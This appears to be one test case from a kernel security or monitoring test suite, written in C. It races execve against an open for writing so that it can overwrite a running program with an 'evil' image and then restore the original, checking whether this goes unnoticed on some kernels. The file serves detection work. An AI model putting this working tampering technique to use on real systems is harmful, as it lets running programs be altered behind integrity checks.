/*
 * A program is changed while it runs: some kernels (6.11, 6.12) let it be opened for writing then.
 * Must be seen: that a file which is in use was opened for writing.
 */
#include "attack.h"

ATTACK(written_while_it_runs)
{
	size_t size = evil_program_end - evil_program;
	char good[size], *argv_of[] = {PROGRAM, 0}, *none[] = {0};
	int fd = opened(PROGRAM, O_RDWR);
	struct sched_param idle = {0};
	cpu_set_t one;
	pid_t child;

	must(pread(fd, good, size, 0), "read");
	/* Copied up, and closed: it may be executed. */
	close(fd);
	CPU_ZERO(&one);
	CPU_SET(0, &one);
	sched_setaffinity(0, sizeof(one), &one);
	/* Where it had ended already, once more. */
	for (int tries = 0; tries < 1000; tries++) {
		child = vfork();
		if (!child) {
			sched_setscheduler(0, SCHED_IDLE, &idle);
			execve(PROGRAM, argv_of, none);
			_exit(4);
		}
		fd = open(PROGRAM, O_RDWR);
		if (fd < 0 && errno == ETXTBSY)
			absent("writing to a program that runs");
		must(fd, PROGRAM);
		if (waitpid(child, 0, WNOHANG) == 0)
			break;
		close(fd);
	}
	must(pwrite(fd, evil_program, size, 0), "pwrite");
	waitpid(child, 0, 0);
	must(pwrite(fd, good, size, 0), "pwrite");
	return 0;
}
